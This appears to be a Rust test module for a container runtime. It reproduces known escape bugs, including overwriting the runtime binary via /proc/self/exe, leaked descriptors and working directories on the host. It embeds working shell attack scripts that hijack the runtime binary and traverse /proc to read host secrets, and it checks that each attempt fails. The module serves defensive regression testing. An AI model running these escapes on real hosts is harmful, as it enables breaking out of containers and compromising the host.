//! The runtime's own binary and descriptors, taken from inside the container.
#![forbid(unsafe_code)]

use crate::attack::Host;
use crate::case::Result;
use crate::kernel::until;
use crate::lab::Lab;
use crate::{cases, check};
use nix::fcntl::{FcntlArg, FdFlag, fcntl};
use serde_json::json;
use std::fs::File;

cases! {
    attack_5736_the_binary_as_program,
    attack_5736_the_binary_as_interpreter,
    attack_5736_the_binary_through_proc_during_exec,
    attack_9962_descriptors_of_an_exec,
    attack_21626_cwd_of_create,
    attack_21626_cwd_of_exec,
    attack_21626_program_behind_a_descriptor,
    attack_24965_config_for_another_handler,
}

/// pid 1 holds the program of every other process, ends that process, and writes to what it holds.
const GRAB: &str = r#"
while :; do for p in /proc/[0-9]*; do
  [ $p = /proc/1 ] || (
    exec 9<$p/exe
    [ /proc/self/fd/9 -ef /bin/busybox ] && exit
    echo $p >> /tmp/held
    n=0
    while [ $n -lt 200 ]; do
      kill -9 ${p#/proc/}
      (echo written by the container >> /proc/self/fd/9) && { echo $p >> /tmp/written; exit; }
      n=$((n+1))
    done
    echo $p >> /tmp/tried
  ) 2>/dev/null
done; done"#;

/// Lets each program run in a container whose pid 1 is after the binary.
fn grabbed(host: &Host, programs: &[&[&str]], must_hold: bool) -> Result {
    let mut bundle = host.lab.script(GRAB)?;
    bundle.caps(&["CAP_DAC_OVERRIDE", "CAP_KILL"])?;
    // A runtime that is to read this config waits, and can be caught.
    nix::unistd::mkfifo(&bundle.inside("config.json"), nix::sys::stat::Mode::S_IRWXU)?;
    let script = bundle.inside("bang");
    std::fs::write(&script, "#!/proc/self/exe\n")?;
    std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755))?;
    let container = host.lab.started(&bundle)?;
    for program in programs {
        for _ in 0..5 {
            // However it ends.
            container.exec(program)?;
        }
    }
    let read = |name| std::fs::read_to_string(bundle.inside(name)).unwrap_or_default();
    // Others do not wait for this config.
    if must_hold && host.lab.is_creel() {
        until("an attempt to write", || {
            (!read("tmp/tried").is_empty() || !read("tmp/written").is_empty()).then_some(())
        })?;
    }
    check!(
        read("tmp/written").is_empty(),
        "the container could write to the runtime's binary"
    );
    container.delete(&["--force"])?.ok()?;
    host.unharmed()
}

fn attack_5736_the_binary_as_program(lab: &Lab) -> Result {
    let host = Host::new(lab)?;
    for args in [
        json!(["/proc/self/exe", "--version"]),
        json!(["/proc/self/exe", "init"]),
    ] {
        let mut bundle = host.lab.bundle()?;
        bundle.set("/process/args", args)?;
        host.lab.run(&bundle)?;
    }
    grabbed(
        &host,
        &[&["/proc/self/exe", "create", "-b", "/", "x"]],
        true,
    )
}

fn attack_5736_the_binary_as_interpreter(lab: &Lab) -> Result {
    grabbed(&Host::new(lab)?, &[&["/bang"]], false)
}

fn attack_5736_the_binary_through_proc_during_exec(lab: &Lab) -> Result {
    grabbed(
        &Host::new(lab)?,
        &[&["/bin/true"], &["/bin/sleep", "0.05"], &["/no/such"]],
        false,
    )
}

/// Descriptors that lead to the host and cross execve.
fn leak(lab: &Lab) -> Result<Vec<File>> {
    let held = vec![
        File::open("/")?,
        File::open(&lab.dir)?,
        File::open("/proc")?,
    ];
    for file in &held {
        fcntl(file, FcntlArg::F_SETFD(FdFlag::empty()))?;
    }
    Ok(held)
}

fn attack_9962_descriptors_of_an_exec(lab: &Lab) -> Result {
    let host = Host::new(lab)?;
    let way = host.way();
    let script = format!(
        "while :; do for p in /proc/[0-9]*; do [ $p = /proc/1 ] && continue
         for d in $p/root $p/cwd $p/fd/*; do
           for s in $d/secret $d/decoy/secret $d/{way}/secret $d/../../../../../../../{way}/secret; do
             grep -q secret $s && echo $s >> /tmp/escaped
           done 2>/dev/null
         done; done; done"
    );
    let mut bundle = host.lab.script(&script)?;
    bundle.caps(&[
        "CAP_DAC_OVERRIDE",
        "CAP_KILL",
        "CAP_SYS_CHROOT",
        "CAP_SETUID",
    ])?;
    let container = host.lab.started(&bundle)?;
    let held = leak(&host.lab)?;
    for _ in 0..15 {
        container.exec(&["/bin/sleep", "0.03"])?;
    }
    drop(held);
    let escaped = std::fs::read_to_string(bundle.inside("tmp/escaped")).unwrap_or_default();
    check!(escaped.is_empty(), "pid 1 reached the host by {escaped}");
    container.delete(&["--force"])?.ok()?;
    host.unharmed()
}

/// Working directories on the host, reached through whatever the runtime has open.
fn cwds() -> impl Iterator<Item = String> {
    (3..15).flat_map(|number| {
        let fd = format!("/proc/self/fd/{number}");
        [fd.clone(), format!("{fd}/../../../../../../..")]
    })
}

/// Prints the secret if the working directory is on the host.
fn steal(way: &str) -> String {
    let up = "../".repeat(12);
    format!("cat {way}/secret {up}{way}/secret decoy/secret 2>/dev/null; pwd")
}

fn attack_21626_cwd_of_create(lab: &Lab) -> Result {
    let host = Host::new(lab)?;
    let held = leak(&host.lab)?;
    for cwd in cwds() {
        let mut bundle = host.lab.script(&steal(&host.way()))?;
        bundle.set("/process/cwd", cwd.as_str())?;
        let output = host.lab.run(&bundle)?;
        check!(!output.out.contains("secret"), "cwd {cwd} is on the host");
    }
    drop(held);
    host.unharmed()
}

fn attack_21626_cwd_of_exec(lab: &Lab) -> Result {
    let host = Host::new(lab)?;
    let container = host.lab.started(&host.lab.idle()?)?;
    let held = leak(&host.lab)?;
    let script = steal(&host.way());
    for cwd in cwds() {
        let output = container.call("exec", &["--cwd", &cwd], &["/bin/sh", "-c", &script])?;
        check!(
            !output.out.contains("secret"),
            "exec --cwd {cwd} is on the host"
        );
    }
    drop(held);
    container.delete(&["--force"])?.ok()?;
    host.unharmed()
}

fn attack_21626_program_behind_a_descriptor(lab: &Lab) -> Result {
    let host = Host::new(lab)?;
    let container = host.lab.started(&host.lab.idle()?)?;
    let held = leak(&host.lab)?;
    let mut bundle = host.lab.bundle()?;
    for cwd in cwds().take(18) {
        for program in [
            format!("{cwd}/{}/prog", host.way()),
            format!("{cwd}/decoy/prog"),
        ] {
            bundle.args(&[&program])?;
            let told = host.lab.run(&bundle)?.out + &container.exec(&[&program])?.out;
            check!(!told.contains("escaped"), "{program} is the host's");
        }
    }
    drop(held);
    container.delete(&["--force"])?.ok()?;
    host.unharmed()
}

fn attack_24965_config_for_another_handler(lab: &Lab) -> Result {
    let host = Host::new(lab)?;
    for name in [".krun_config.json", ".krun_vm.json"] {
        for handler in ["krun", "wasm"] {
            let mut bundle = host.lab.bundle()?;
            bundle.set("/annotations/run.oci.handler", handler)?;
            crate::attack::plant(&bundle, name, host.decoy.join("new"))?;
            host.lab.run(&bundle)?;
        }
    }
    host.unharmed()
}
